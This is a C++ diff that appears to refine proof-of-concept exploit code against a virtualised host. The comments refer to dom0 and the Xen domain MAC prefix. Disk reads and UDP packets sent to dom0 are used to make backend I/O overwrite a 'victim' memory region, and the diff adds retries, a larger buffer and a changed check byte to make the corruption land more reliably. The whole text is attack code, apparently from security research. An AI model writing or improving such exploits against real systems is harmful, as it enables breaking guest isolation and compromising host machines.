@@ -48,7 +48,7 @@ private:
 };
 
 int disk = -1;
-char buffer[8 * kPage];
+char buffer[11 * kPage]; // What one request may move.
 /// The backend keeps what it has mapped, so each read uses the pages of those
 /// before, and one more: the last, which gets what is at the offset.
 void readInto(const volatile void *victim, unsigned offset) {
@@ -57,10 +57,15 @@ void readInto(const volatile void *victim, unsigned offset) {
   pread(disk, buffer, (used + 1) * kPage, offset - used * kPage);
   ++used;
 }
+/// A packet that comes meanwhile goes to the victim too, over its beginning; and
+/// what comes between may take the page.
 bool diskTo(const volatile char *victim) {
-  readInto(victim, 8 * kPage);
-  asm volatile("" ::: "memory");
-  return *victim == kDisk;
+  for (unsigned i = 0; i < 3; ++i) {
+    readInto(victim, 16 * kPage);
+    if (victim[kPage - 1] == kDisk)
+      return true;
+  }
+  return false;
 }
 bool diskToData() { return diskTo(data); }
 bool diskToText() { return diskTo(textOf(kMoved)); }
@@ -82,9 +87,11 @@ void prepareTable() {
     std::puts("the disk cannot be written");
 }
 
-/// Whoever asks dom0 for something that it does not have gets an answer.
+/// Whoever asks dom0 for something that it does not have gets an answer. What a
+/// packet begins with, 00:16:3e for the domain itself, differs from every
+/// victim's beginning in the second byte.
 bool netTo(const volatile char *victim) {
-  char was = *victim;
+  char was = victim[1];
   Forgery forgery(victim);
   int s = socket(AF_INET, SOCK_DGRAM, 0);
   sockaddr_in to = {};
@@ -95,7 +102,7 @@ bool netTo(const volatile char *victim) {
   for (unsigned i = 0; i < 20 && !isDone; ++i) {
     sendto(s, "?", 1, 0, reinterpret_cast<sockaddr *>(&to), sizeof(to));
     usleep(100'000);
-    isDone = isChanged(victim, was);
+    isDone = isChanged(victim + 1, was);
   }
   close(s);
   return isDone;
